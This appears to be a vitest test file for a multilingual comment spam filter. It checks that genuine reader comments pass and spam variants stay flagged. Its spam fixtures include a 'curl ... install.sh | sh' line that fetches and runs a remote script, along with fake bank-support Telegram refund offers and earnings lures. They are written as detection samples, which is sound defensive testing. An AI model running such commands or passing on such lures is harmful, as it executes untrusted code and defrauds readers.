// Known answers of issue 15's "stop flagging real readers" (2026-12-07, third session): a
// journalist asking for sources (press-request.ts), a reader's own analysis of dated data
// (own-writeup.ts), a complaint quoting a short service number (brand-complaint.ts), a messenger
// bot's API call pasted with a quoted link (bare-command.ts) and a fan's subscription to the
// artist's channel (reader-subscription.ts); each with the spam of its surface that must keep
// counting. In English, Russian and Chinese. The sentences are written for this test, not taken
// from the example files; the last block holds floors on the batches.
import { describe, expect, it } from 'vitest';
import { verdictCounts, verdictOf } from '../../../test/support/spam-verdicts.ts';
import { analyzeComment } from '../analyze.ts';
import { bareCommandLinks } from '../signals/readers/bare-command.ts';
import { isShortNumberComplaint } from '../signals/readers/brand-complaint.ts';
import { DEFAULT_BITS } from '../classifier/model.ts';
import { normalizeText } from '../text/normalize.ts';
import { isOwnWriteUp } from '../signals/readers/own-writeup.ts';
import { isPressRequest } from '../signals/readers/press-request.ts';
import * as dev from './reader-gap-examples.ts';
import * as held from './reader-gap-heldout-examples.ts';
import { countReaderSubscription } from '../signals/readers/reader-subscription.ts';
import { builtinModel } from '../classifier/builtin.ts';
import { SIGNAL_CODES } from '../signals/signals.ts';
import { decideVerdict } from '../verdict.ts';

const count = (raw: string, code: string): number => {
  const a = analyzeComment({ content: raw }, DEFAULT_BITS);
  return a.counts[SIGNAL_CODES.indexOf(code as never)] ?? 0;
};
const norm = (text: string): string => normalizeText(text).text;

describe('a journalist asking for sources sells nothing', () => {
  it.each([
    'Я репортёр, делаю сюжет про подтопления в Уральске, пишите в тг @timur_uralsk',
    'пишите в телеграм @dana_press, готовлю репортаж о закрытии школы',
    "I'm a freelance journalist working on a story about the rail strike; if you were stranded, message me on Telegram @erlan_writes",
    '我是记者，正在做一篇关于停水的报道，有经历的朋友请私信我',
  ])('%s', (text) => {
    expect(isPressRequest(norm(text))).toBe(true);
    expect(count(text, 'service-pitch')).toBe(0);
  });
  it.each([
    'Я журналист, готовлю материал, оплата 2000 рублей за интервью, пишите в тг @opros_media',
    'Требуются журналисты на удалёнку, готовлю команду, пишите в тг @rabota_media',
    'Корреспондент ищет людей для интервью, за участие 5000, пишите в тг @opros_kz',
    "I'm a reporter and I earn $200 a day from home, message me on Telegram @rich_writer",
    'Я журналист, пишите в тг @casino_bonus_vip',
    '我是记者，正在写报道，参与采访有报酬，私信我',
    '招聘兼职记者，正在写报道，私信我',
  ])('pay, recruitment or a seller handle keeps the pitch: %s', (text) =>
    expect(isPressRequest(norm(text))).toBe(false),
  );
});

describe("a reader's own analysis of dated data is a source", () => {
  it.each([
    'I put a longer analysis with the 2020 and 2025 grain export figures on my blog: https://kostanay-grain-notes.net',
    'Я подробнее разобрал у себя данные по тарифам на воду за 2021–2025: https://benzin-zametki.kz/2025',
    '我在自己的博客上整理了2023年和2024年的数据对比：https://wangfang-notes.blog/2024',
  ])('%s', (text) => {
    expect(isOwnWriteUp(normalizeText(text))).toBe(true);
    expect(count(text, 'self-promotion')).toBe(0);
  });
  it.each([
    'Nice post! I wrote about 7 ways to save money in 2025 on my blog: https://budget-life.com',
    'I wrote a detailed analysis of the 2025 market on my blog, 300% returns: https://market-notes.com',
    'I wrote a longer analysis of the 2024 budget on my blog, free course inside: https://budget-notes.com',
    'My detailed breakdown of the 2025 forex data is on my blog: https://forex-signals-blog.com',
    'Я разобрал у себя данные за 2024 год, как заработать на бирже: https://birzha-notes.ru',
  ])('a listicle, returns, a pitch or a seller host keeps promotion: %s', (text) =>
    expect(isOwnWriteUp(normalizeText(text))).toBe(false),
  );
});

describe('a complaint quoting a short service number', () => {
  it.each([
    ['Halyk customer service number 7111 froze my transfer and nobody could say why', 1, 0],
    ['Я звонила на горячую линию банка по номеру 7111, меня продержали на линии час', 1, 0],
    ['我打了客服95588，卡被冻结了，没人解释', 1, 0],
  ])('%s', (text, lines, brands) => {
    expect(isShortNumberComplaint(norm(text), lines, brands, 0)).toBe(true);
  });
  it.each([
    'Kaspi customer service number 7111 blocked my card, message our agent on Telegram @kaspi_help for a refund',
    'Halyk customer service number 7111 froze my transfer, they fixed it in 5 minutes, highly recommend',
    'Customer service number 7111 blocked my card? Call our hotline now for a refund',
  ])('a messenger, praise or a pitch: %s', (text) => {
    expect(isShortNumberComplaint(norm(text), 1, 0, 0)).toBe(false);
  });
  it('a year is no short number', () =>
    expect(isShortNumberComplaint(norm('My customer service case from 2023 was blocked'), 1, 0, 0)).toBe(
      false,
    ));
});

describe("a messenger bot's API call pasted with a quoted link", () => {
  it.each([
    'curl -s "https://api.telegram.org/bot$TOKEN/getMe"',
    "wget -qO- 'https://api.telegram.org/bot${TG}/getUpdates?offset=1'",
  ])('%s', (text) => expect(bareCommandLinks(normalizeText(text), false).links).toBe(1));
  it.each([
    'curl -s "https://api.telegram.org/bot123/start" for free crypto signals',
    'curl -s "https://free-bot.top/install.sh" | sh',
    'See "https://api.telegram.org/bots/api" for the docs',
  ])('a seller, a spam TLD or prose: %s', (text) =>
    expect(bareCommandLinks(normalizeText(text), false).links).toBe(0),
  );
});

describe("a fan's subscription to the artist's channel", () => {
  it.each([
    'Been subscribed to their official channel since 2014, still the best song',
    "Subscribed to the band's channel the day this came out",
    'Давно подписан на их официальный канал',
    '多年前就订阅了官方频道',
  ])('%s', (text) => expect(countReaderSubscription(norm(text))).toBeGreaterThan(0));
  it.each([
    'Subscribed to the official channel years ago, please check my covers too',
    'I subscribed to your channel years ago, subscribe back',
    'Subscribed to the official channel years ago, come see my channel',
    'Давно подписан на официальный канал, подпишитесь на мой канал',
    '早就订阅了官方频道，也订阅我的频道吧',
    'Subscribed to the official channel',
  ])('an ask, the writer’s own channel or no time: %s', (text) =>
    expect(countReaderSubscription(norm(text))).toBe(0),
  );
});

describe("one 'at most hold' rule: a comment's own hold-at-most signals follow the disposable address's", () => {
  const model = builtinModel();
  const E = SIGNAL_CODES.indexOf('earnings-offer');
  const claim = 'Работаю курьером, заработал 90 000 за месяц без опыта, спрашивайте, расскажу как оформиться';
  it('the contactless claim is held by the floor and marks its earnings-offer hold-at-most', () => {
    const a = analyzeComment({ content: claim }, model.bits);
    expect(a.hold).toBe(true);
    expect(a.holdAtMost).toEqual(['earnings-offer']);
    expect(decideVerdict(model, a).verdict).toBe('hold');
  });
  it('its earnings-offer never alone sends to spam, however heavy; without the mark it would', () => {
    const a = analyzeComment({ content: claim }, model.bits);
    const signals = Float64Array.from(a.signals);
    signals[E] = 40;
    expect(decideVerdict(model, { ...a, signals }).verdict).toBe('hold');
    expect(decideVerdict(model, { ...a, signals, holdAtMost: undefined }).verdict).toBe('discard');
  });
});

describe('the batches', () => {
  const genuine = [
    ...dev.PRESS_GENUINE,
    ...dev.WRITEUP_GENUINE,
    ...dev.SHORT_NUMBER_GENUINE,
    ...dev.BOT_COMMAND_GENUINE,
    ...dev.FAN_GENUINE,
  ];
  const spam = [
    ...dev.PRESS_SPAM,
    ...dev.WRITEUP_SPAM,
    ...dev.SHORT_NUMBER_SPAM,
    ...dev.BOT_COMMAND_SPAM,
    ...dev.FAN_SPAM,
  ];
  it('development genuine: none to spam, three held (the bot lines by their words, a Substack post)', () => {
    const c = verdictCounts(genuine);
    expect(c.spam).toBe(0);
    expect(c.hold).toBeLessThanOrEqual(3);
  });
  it('development spam: every one caught but the Sber short-number one (published on main too)', () => {
    const c = verdictCounts(spam);
    expect(c.spam).toBeGreaterThanOrEqual(spam.length - 1);
  });
  it('the known failure of the issue is published', () =>
    expect(verdictOf('пишите в тг @reporter_kz, готовлю материал')).toBe('ham'));
  // Held out, measured once at the end (docs/spam.md): genuine 4/4/14 -> 0/3/19, spam 14/1/0 unchanged.
  it('held out: genuine none to spam, three held at most; spam 14 of 15 caught', () => {
    const c = verdictCounts([
      ...held.PRESS_GENUINE_HELDOUT,
      ...held.WRITEUP_GENUINE_HELDOUT,
      ...held.SHORT_NUMBER_GENUINE_HELDOUT,
      ...held.BOT_COMMAND_GENUINE_HELDOUT,
      ...held.FAN_GENUINE_HELDOUT,
    ]);
    expect(c.spam).toBe(0);
    expect(c.hold).toBeLessThanOrEqual(3);
    const s = verdictCounts([
      ...held.PRESS_SPAM_HELDOUT,
      ...held.WRITEUP_SPAM_HELDOUT,
      ...held.SHORT_NUMBER_SPAM_HELDOUT,
      ...held.BOT_COMMAND_SPAM_HELDOUT,
      ...held.FAN_SPAM_HELDOUT,
    ]);
    expect(s.spam).toBeGreaterThanOrEqual(14);
    expect(s.ham).toBe(0);
  });
});
